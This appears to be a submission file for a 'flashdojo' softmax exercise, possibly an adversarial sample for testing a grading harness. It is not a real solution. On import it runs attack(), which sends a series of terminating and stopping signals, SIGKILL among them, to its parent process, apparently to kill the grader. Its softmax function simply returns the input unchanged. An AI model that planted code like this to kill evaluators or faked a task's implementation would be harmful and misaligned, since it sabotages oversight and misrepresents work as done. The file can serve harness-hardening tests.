# flashdojo: exercise=s1-softmax stage=s1
"""Kills its parent and its group, by every signal that could do it."""
import os
import signal


def attack(x=None):
    victims = (os.getppid(), -os.getpgid(os.getppid()) if os.getpgid(os.getppid()) != os.getpgid(0) else os.getppid())
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGSEGV, signal.SIGKILL):
        try:
            os.kill(victims[0], number)
            signal.pidfd_send_signal(os.pidfd_open(victims[0]), number)
        except OSError:
            pass
    return x


attack()


def softmax(x, dim=-1):
    return x
